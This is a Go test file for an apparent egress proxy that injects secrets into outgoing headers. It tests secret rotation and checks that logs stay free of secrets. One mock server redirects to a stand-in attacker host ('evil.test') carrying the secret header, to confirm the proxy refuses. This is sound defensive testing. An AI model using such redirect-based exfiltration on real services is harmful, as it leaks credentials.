package egress_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/mortise-dev/mortise/internal/egress"
)

func TestRotatedSecrets(t *testing.T) {
	t.Parallel()
	var calls atomic.Int64
	url := serve(t, "https", "a.example.com", func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.WriteString(w, r.Header.Get("Authorization")+r.Header.Get("X-Key"))
	})
	b := withSecrets(t, func(c *egress.Config) {
		s := c.Secrets["token"]
		s.Value = func(context.Context) (string, error) { return fmt.Sprintf("value-number-%03d", calls.Add(1)), nil }
		c.Secrets["token"] = s
	})
	for range 20 {
		resp := get(t, b, egress.Request{URL: url, Header: http.Header{"Authorization": {"{{secret.token}}"}, "X-Key": {"{{secret.token}}"}}})
		if string(resp.Body) != "{{secret.token}}{{secret.token}}" {
			t.Fatalf("got %q", resp.Body)
		}
	}
	if calls.Load() != 20 {
		t.Errorf("the value was read %d times for 20 requests", calls.Load())
	}
	if n := b.Values(); n != 8+1 { // and that of the other secret
		t.Errorf("%d values are remembered", n)
	}
}

// syncBuffer collects a log.
type syncBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func TestLogHoldsNoSecret(t *testing.T) {
	t.Parallel()
	url := serve(t, "https", "a.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Location", "https://evil.test/"+r.Header.Get("X-Key"))
		w.WriteHeader(http.StatusFound)
	})
	var log syncBuffer
	b := withSecrets(t, func(c *egress.Config) {
		c.Logger = slog.New(slog.NewTextHandler(&log, &slog.HandlerOptions{Level: slog.LevelDebug}))
	})
	for range 3 {
		_ = refused(t, b, egress.Request{URL: url + "/path-of-guest?query-of-guest", Header: http.Header{"X-Key": {"{{secret.token}}"}}}, egress.ReasonHost)
	}
	_, _ = b.Do(t.Context(), egress.Request{URL: "https://missing.example.com/path-of-guest"})
	text := log.buf.String()
	hidden(t, text, "s3cr3t", "path-of-guest", "query-of-guest")
	if strings.Count(text, "level=WARN") != 1 || strings.Count(text, "reason=host") != 3 || !strings.Contains(text, "missing.example.com") {
		t.Errorf("log: %s", text)
	}
}
